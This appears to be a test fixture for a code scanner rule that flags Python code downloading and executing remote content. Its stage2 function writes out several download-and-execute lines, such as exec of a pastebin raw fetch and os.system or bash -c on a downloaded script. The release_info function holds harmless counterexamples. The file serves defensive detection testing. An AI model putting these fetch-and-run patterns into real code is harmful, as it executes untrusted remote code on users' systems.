"""Fixture for py-download-exec.

RULEID: exec of requests text, eval of urlopen body, os.system of downloaded script, sh -c.
OK: JSON API call whose result is only read, exec of a local file, status code check.
"""
import os
import subprocess
import urllib.request

import requests


def stage2():
    # ruleid: py-download-exec
    exec(requests.get("https://pastebin.com/raw/abc123").text)
    body = urllib.request.urlopen("http://198.51.100.20/p.py").read()
    # ruleid: py-download-exec
    eval(compile(body, "<p>", "exec"))
    script = requests.get("https://example.net/s.sh").text
    # ruleid: py-download-exec
    os.system(script)
    # ruleid: py-download-exec
    subprocess.run(["bash", "-c", script])


def release_info():
    r = requests.get("https://api.github.com/repos/o/r/releases/latest")
    data = r.json()
    # ok: py-download-exec
    os.system("echo checking")
    if r.status_code != 200:
        # ok: py-download-exec
        exec("print('offline')")
    with open("local_plugin.py") as fh:
        # ok: py-download-exec
        exec(fh.read())
    return data["tag_name"]
